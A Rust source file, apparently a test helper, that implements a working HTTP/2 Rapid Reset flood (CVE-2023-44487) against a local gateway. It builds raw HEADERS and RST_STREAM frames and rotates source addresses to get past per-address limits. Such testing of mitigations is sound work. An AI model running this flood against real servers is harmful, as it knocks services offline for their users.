//! A client that opens HTTP/2 streams and resets each immediately, as fast as the gateway accepts them (CVE-2023-44487).
//! When its connection is closed it reconnects, from the next of many addresses.

use std::io::{self, Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use socket2::{Domain, Socket, Type};

/// The number of accepted resets, over any number of connections.
pub(crate) const RESETS: usize = 100_000;
/// Streams per batch, all accepted before the next batch.
const BATCH: usize = 50;
/// The client's addresses: each is refused for a while, and the load uses none of them.
const ADDRESSES: usize = 100;
/// The time after which a gateway that does not answer a ping counts as closed.
const ANSWERED: Duration = Duration::from_secs(5);
/// The time limit of the whole flood.
const PATIENCE: Duration = Duration::from_secs(60);
/// RFC 9113 §3.4, and empty SETTINGS.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
/// The type of a ping frame.
const ACK: u8 = 1;
/// `END_STREAM` and `END_HEADERS`.
const WHOLE: u8 = 5;
/// RFC 9113 §7.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// `:method: GET`, `:scheme: http`, `:path: /` by their numbers, `:authority` in letters (RFC 7541).
const BLOCK: &[u8] = b"\x82\x86\x84\x01\x09127.0.0.1";

/// The result.
pub(crate) struct Flooded {
    pub(crate) resets: usize,
    pub(crate) connections: usize,
    pub(crate) took: Duration,
}

impl Flooded {
    pub(crate) fn in_words(&self) -> String {
        format!("{} resets in {:.1?}, over {} connections", self.resets, self.took, self.connections)
    }
}

/// Sends all resets, or as many as the time limit allows.
pub(crate) fn flood(gateway: SocketAddr) -> Flooded {
    let begin = Instant::now();
    let (mut resets, mut connections) = (0, 0);
    while resets < RESETS && begin.elapsed() < PATIENCE {
        let from = Ipv4Addr::new(127, 0, 2, 1 + (connections % ADDRESSES) as u8);
        connections += 1;
        // However the connection ends, another one follows.
        let _ = flood_one(gateway, from, &mut resets);
    }
    Flooded { resets, connections, took: begin.elapsed() }
}

/// Sends until the gateway closes the connection or sends GOAWAY.
fn flood_one(gateway: SocketAddr, from: Ipv4Addr, resets: &mut usize) -> io::Result<()> {
    let mut socket = connect(gateway, from)?;
    socket.set_nodelay(true)?;
    socket.set_write_timeout(Some(ANSWERED))?;
    socket.set_read_timeout(Some(ANSWERED))?;
    socket.write_all(PREFACE)?;
    let mut stream = 1;
    while *resets < RESETS {
        let mut bytes = Vec::with_capacity(BATCH * 64);
        for _ in 0..BATCH {
            frame(&mut bytes, HEADERS, WHOLE, stream, BLOCK);
            frame(&mut bytes, RST_STREAM, 0, stream, &CANCEL);
            stream += 2;
        }
        frame(&mut bytes, PING, 0, 0, &[0; 8]);
        socket.write_all(&bytes)?;
        if !is_taken(&mut socket)? {
            return Ok(());
        }
        *resets += BATCH;
    }
    Ok(())
}

fn connect(gateway: SocketAddr, from: Ipv4Addr) -> io::Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&SocketAddr::from((from, 0)).into())?;
    socket.connect(&gateway.into())?;
    Ok(socket.into())
}

/// Whether the ping after a batch is answered: the batch has been accepted by then.
fn is_taken(socket: &mut TcpStream) -> io::Result<bool> {
    loop {
        let mut head = [0; 9];
        socket.read_exact(&mut head)?;
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        socket.read_exact(&mut vec![0; length])?;
        match (head[3], head[4]) {
            (PING, ACK) => return Ok(true),
            (GOAWAY, _) => return Ok(false),
            // Other frames do not matter here.
            _ => {}
        }
    }
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}
